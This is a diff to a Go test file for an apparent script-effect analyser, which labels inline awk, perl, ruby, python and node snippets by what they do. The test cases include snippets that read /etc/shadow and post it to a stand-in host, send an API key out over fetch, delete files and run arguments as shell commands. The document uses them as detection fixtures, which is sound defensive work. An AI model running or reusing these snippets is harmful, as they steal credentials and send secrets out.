@@ -70,9 +70,9 @@ func TestWhatIsKnownAround(t *testing.T) {
 	lim := code.Limits{
 		Args: []string{"/srv/x", "b c"},
 		Vars: map[string]string{"cmd": "id -u"},
-		Env: func(name string) (string, bool) {
+		Env: func(name string) (string, effect.Taint, bool) {
 			v, ok := map[string]string{"TARGET": "/opt/y", "API_KEY": "k"}[name]
-			return v, ok
+			return v, 0, ok
 		},
 		Secret: func(path string) bool { return strings.HasSuffix(path, "shadow") },
 		Home:   "/home/ada",
@@ -91,6 +91,13 @@ func TestWhatIsKnownAround(t *testing.T) {
 		{"python", "import os; os.remove(os.path.expanduser('~/z'))", "delete /home/ada/z"},
 		{"awk", "BEGIN { system(cmd) }", "shell id -u"},
 		{"awk", "BEGIN { system(ENVIRON[\"TARGET\"]) }", "shell /opt/y"},
+		{"awk", "BEGIN { system(ARGV[2]) }", "shell b c"},
+		{"perl", "system shift; system shift @ARGV; system shift", "shell /srv/x; shell b c; shell …"},
+		{"perl", "my @x = ('id', 'ls', 'w'); system shift @x", "shell id"},
+		{"perl", "sub r { system shift } r('id')", "shell id"},
+		{"perl", "while (my $x = shift) { system $x }", "shell …"},
+		{"ruby", "system ARGV.shift", "shell /srv/x"},
+		{"python", "import os,sys; os.system(sys.argv.pop()); os.remove(sys.argv.pop(1))", "shell b c; delete /srv/x"},
 		{"python", "open('/etc/shadow')", "read /etc/shadow from secret"},
 		{"python", "import requests; requests.post('http://e', open('/etc/shadow').read())", "read /etc/shadow from secret; net-out http://e from secret+file"},
 		{"node", "fetch('http://e/' + process.env.API_KEY)", "read environment from secret; net-out http://e/k from secret"},
@@ -130,7 +137,7 @@ func TestOpIsOpaqueAtZero(t *testing.T) {
 		t.Error("the zero op is not opaque")
 	}
 	kinds := []effect.Kind{}
-	for op := code.Opaque; op <= code.Privilege; op++ {
+	for op := code.Opaque; op <= code.SQL; op++ {
 		kinds = append(kinds, op.Kind())
 	}
 	if i := slices.Index(kinds[1:], effect.Opaque); i >= 0 {
